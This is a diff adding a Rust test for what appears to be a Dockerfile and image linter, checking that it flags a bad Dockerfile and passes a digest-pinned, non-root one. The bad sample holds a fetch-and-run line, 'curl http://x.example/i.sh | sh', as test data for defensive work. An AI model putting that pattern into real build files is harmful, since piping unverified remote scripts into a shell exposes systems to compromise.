@@ -303,6 +303,32 @@ fn what_is_no_image_is_refused() {
     assert!(error.contains("not a digest"), "{error}");
 }
 
+#[test]
+fn dockerfiles_and_configurations_are_judged() {
+    let bad = "FROM debian\nRUN curl http://x.example/i.sh | sh\n";
+    let good = "FROM debian:12@sha256:0000000000000000000000000000000000000000000000000000000000000000\n\
+                USER 1000\nCMD [\"app\"]\n";
+    let folder = Folder::new(&[("bad", bad), ("good", good), ("cut", "FORM debian\n")]);
+    let run =
+        |arguments: &[&str]| bollwerk(folder.path(), &[&["image", "lint"], arguments].concat(), "");
+    let (code, out, error) = run(&["bad", "--format=json"]);
+    assert_eq!(code, 1, "{error}");
+    let report: Value = serde_json::from_str(&out).unwrap();
+    let findings = report["inputs"][0]["findings"].as_array().unwrap();
+    assert!(findings.iter().any(|it| it["line"] == 2), "{report:#}");
+    assert_eq!(run(&["good"]).0, 0, "{}", run(&["good"]).1);
+    assert_eq!(run(&["bad", "--fail-on=none"]).0, 0);
+    let (code, _, error) = run(&["cut", "--fail-on=none"]);
+    assert_eq!(code, 3);
+    assert!(error.contains("cut: line 1: `FORM` is no instruction"), "{error}");
+    let layout = Layout::of(&[&[REQUESTS]]);
+    let name = layout.name();
+    let (code, out, error) = layout.run(&["lint", &name, "--show=info"]);
+    assert_eq!(error, "");
+    assert!(code == 1 && out.contains("root"), "{out}");
+    assert_eq!(run(&["missing.tar"]).0, 2);
+}
+
 /// Images of Debian's suites; none without them, which is a failure under `CI=true`.
 #[expect(clippy::print_stdout, reason = "a skipped test says so")]
 fn images() -> Option<PathBuf> {
